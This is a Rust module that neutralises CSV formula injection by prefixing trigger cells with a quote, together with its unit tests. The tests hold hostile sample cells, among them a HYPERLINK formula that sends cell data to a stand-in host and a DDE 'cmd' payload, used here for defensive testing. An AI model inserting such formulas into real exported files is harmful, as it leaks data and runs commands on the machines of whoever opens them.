//! Spreadsheet-safe CSV cells (docs/design.md §6, OWASP's CSV-injection rule), for every CSV the tool
//! writes: a spreadsheet — the reports' declared consumer — evaluates a cell starting with
//! `=`, `+`, `-` or `@` as a formula (and may strip a leading tab or carriage return
//! first), so such a cell is written with a leading `'`, which spreadsheets take as "this
//! is text". A cell already starting with `'` gets one more too, so the rule can be undone
//! exactly: [`raw`] drops the first character of any cell starting with `'`.
//!
//! Valid domains, IP addresses, counts, verdicts and dates never start with any of these
//! characters, so no real data changes: only malformed senders (`unknown` rows) and the
//! free text built from them can. All CSV goes through [`SafeWriter`], the one writer the
//! crate builds (`pairs_file::csv_writer`).

use std::borrow::Cow;
use std::io::{self, Write};

/// Characters that make a spreadsheet read a cell as a formula, and the quote itself.
const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// `cell` as written: with a leading `'` when it starts with a trigger, else unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value a cell written by [`neutralise`] stood for: without its first `'`.
pub fn raw(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// A `csv::Writer` whose every cell goes through [`neutralise`].
pub struct SafeWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> SafeWriter<W> {
    pub fn new(inner: csv::Writer<W>) -> Self {
        SafeWriter { inner }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in record {
            self.inner
                .write_field(neutralise(cell.as_ref()).as_bytes())?;
        }
        // An empty record ends the one whose fields were just written.
        self.inner.write_record(None::<&[u8]>)
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_and_the_quote_comes_off_again() {
        let hostile = [
            "=hyperlink(\"http://evil.example/leak?\"&a1)",
            "+cmd|'/c calc'!a0",
            "-2+3",
            "@sum(1+1)",
            "\t=1",
            "\r=1",
            "'=1",
            "'",
        ];
        for cell in hostile {
            let written = neutralise(cell);
            assert_eq!(written, format!("'{cell}"), "{cell:?}");
            assert_eq!(raw(&written), cell);
        }
    }

    #[test]
    fn real_data_never_changes() {
        let real = [
            "example.org",
            "xn--bcher-kva.example",
            "192.0.2.1",
            "2001:db8::1",
            "<>",
            "",
            "12",
            "25.00",
            "repudiated",
            "2026-11-28T02:15:00Z",
            "a.example;b.example",
            "perimeter:192.0.2.0/24",
            "mail-from.x.test MX: SERVFAIL",
        ];
        for cell in real {
            assert!(matches!(neutralise(cell), Cow::Borrowed(_)), "{cell:?}");
            assert_eq!(raw(cell), cell);
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell_and_quotes_as_csv_does() {
        let mut out = Vec::new();
        let mut w = SafeWriter::new(csv::Writer::from_writer(&mut out));
        w.write_record(["=1+1", "ok", "-x,y"]).unwrap();
        w.write_record(["a", "b", "c"]).unwrap();
        w.flush().unwrap();
        drop(w);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "'=1+1,ok,\"'-x,y\"\na,b,c\n"
        );
    }
}
